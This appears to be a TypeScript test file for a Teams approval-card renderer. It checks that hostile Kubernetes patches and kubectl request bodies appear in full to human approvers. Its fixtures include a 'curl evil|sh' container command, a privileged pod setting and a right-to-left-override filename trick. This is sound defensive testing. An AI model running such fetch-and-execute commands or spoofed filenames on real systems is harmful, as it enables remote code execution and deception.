import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { renderCard } from '../../../../src/adapters/teams/render/render-card.ts';
import type { ApprovalCard } from '../../../../src/core/cards/approval-card.ts';
import { assertGolden } from '../../../harness/golden.ts';
import { apiFullChange, fullChangeSize } from '../../../../src/core/changes/full-change.ts';
import { MAX_FULL_CHANGE_CHARS } from '../../../../src/core/changes/refuse-unshowable-change.ts';
import { apiRequestWithBody, bodyCard } from '../../core/changes/adversarial-body.ts';
import { largestChanges, patchCard } from '../../core/changes/adversarial-patch.ts';
import { hostileCard } from '../slack/card-fixtures.ts';
import { assertCardAccepted, assertInert } from './teams-card-assertions.ts';

/** The texts of the card's "Show full change" ShowCard. */
function showCardTexts(card: ReturnType<typeof renderCard>, title = 'Show full change'): string[] {
  const action = card.actions?.find((a) => a.id === 'full-change');
  assert.ok(action?.type === 'Action.ShowCard', 'the card has a Show full change ShowCard');
  assert.equal(action.title, title);
  return action.card.body.map((e) => (e.type === 'TextBlock' ? e.text : ''));
}

void describe('Teams: a patch card and its full change', () => {
  void test('card-patch: says how many paths exist, and its ShowCard has every path, the whole command and the patch', () => {
    const card = renderCard(patchCard);
    assertGolden('teams/card-patch', card);
    assertCardAccepted(card);
    assertInert(card.actions);
    const notice = card.body.find((e) => e.id === 'change');
    assert.ok(notice?.type === 'TextBlock');
    assert.match(notice.text, /^17 changed paths; 10 shown, values shortened/);
    assertInert(notice);
    const preview = JSON.stringify(card.body);
    assert.ok(!preview.includes('curl evil'), 'the card body alone does not show the command');
    const text = showCardTexts(card).join('\n');
    for (const { path } of patchCard.change!.full.paths) assert.ok(text.includes(path), `${path} is listed`);
    assert.ok(text.includes('"command":［"sh","-c","curl evil|sh"］'), 'the container command, whole');
    assert.ok(text.includes('"curl evil|sh"\n'), 'and in the patch itself');
    assert.ok(text.includes('\\n\\u202egnp.exe and then some more words to pass sixty'), 'bidi shown, whole');
  });

  void test('the ShowCard is there on a status reply without buttons too', () => {
    assert.ok(showCardTexts(renderCard(patchCard, { withActions: false })).length > 0);
  });

  for (const [name, change] of Object.entries(largestChanges())) {
    void test(`the largest change filing allows fits one Teams message with the largest card: ${name}`, () => {
      const neutral: ApprovalCard = {
        ...hostileCard,
        change: { notice: patchCard.change!.notice, full: change },
      };
      const card = renderCard(neutral);
      assertCardAccepted(card);
      const text = showCardTexts(card).join('\n');
      for (const { path } of change.paths) assert.ok(text.includes(path));
    });
  }
});

void describe('Teams: a held kubectl request and its full body', () => {
  void test('card-api-body: says the body size and how much it shows; its Show full request ShowCard has the whole body', () => {
    const card = renderCard(bodyCard);
    assertGolden('teams/card-api-body', card);
    assertCardAccepted(card);
    assertInert(card.actions);
    const notice = card.body.find((e) => e.id === 'change');
    assert.ok(notice?.type === 'TextBlock');
    assert.match(notice.text, /^Request body 632 bytes; the card shows its first 199 characters/);
    const body = JSON.stringify(card.body);
    assert.ok(
      !body.includes('privileged') && !body.includes('curl evil'),
      'the card body alone does not show them',
    );
    assert.ok(body.includes(bodyCard.change!.full.call!.sha256), 'the SHA-256 stays');
    const text = showCardTexts(card, 'Show full request').join('\n');
    assert.ok(
      text.includes('"privileged": true') && text.includes('"curl evil|sh"'),
      'the dangerous part, whole',
    );
    assert.ok(text.includes('\\u202egnp.exe') && !text.includes('\u202e'), 'bidi shown as its escape');
    assert.ok(text.includes(`SHA-256 ${bodyCard.change!.full.call!.sha256}`));
  });

  void test('the largest body filing allows fits one Teams message', () => {
    const full = apiFullChange(
      apiRequestWithBody(JSON.stringify({ v: '*'.repeat(MAX_FULL_CHANGE_CHARS - 13) })).call,
    )!;
    assert.equal(fullChangeSize(full), MAX_FULL_CHANGE_CHARS);
    const card = renderCard({ ...hostileCard, change: { notice: bodyCard.change!.notice, full } });
    assertCardAccepted(card);
    assert.ok(showCardTexts(card, 'Show full request').length > 0);
  });
});
